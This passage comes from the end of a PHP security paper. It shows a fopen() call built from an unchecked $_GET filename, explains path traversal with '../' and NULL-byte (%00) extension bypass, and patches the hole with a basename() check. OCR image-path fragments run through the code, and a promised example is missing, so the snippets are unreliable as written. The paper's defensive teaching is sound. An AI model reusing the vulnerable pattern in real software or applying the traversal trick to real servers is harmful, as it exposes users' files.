users; an argument passed to the function fopen(), like:$fp = fopen(“/path/{$_GET[‘filename’]}.txt”, ‘r’);



In this script exists a vulnerability because ‘filename’ could be tainted by a
remote user.
In this case the attacker can traverses the filesystem by using multiple
instances of “../” to move up to the directory tree and see other files.

For example:

However, keep in mind that NULL Byte (%00) is used in lots of attacks to terminate
a string and avoid the filename extansion limitations.

—[ Patching ]—

A great solution to patch this script is to use basename() function as show in the
example below:$clean = array();

if (basename($_GET[‘filename’]) == $_GET[‘filename’])$clean[‘filename’] = $_GET[‘filename’];$fp = fopen(“/path/{$clean[‘filename’]}.txt”, ‘r’);



—[0x06: Conclusion ]

This is the end of my paper “PHP Undergroud Security” and I hope that it will
help you to make secure PHP code!

For any problems do notesitate to mail me at [email protected] or
[email protected].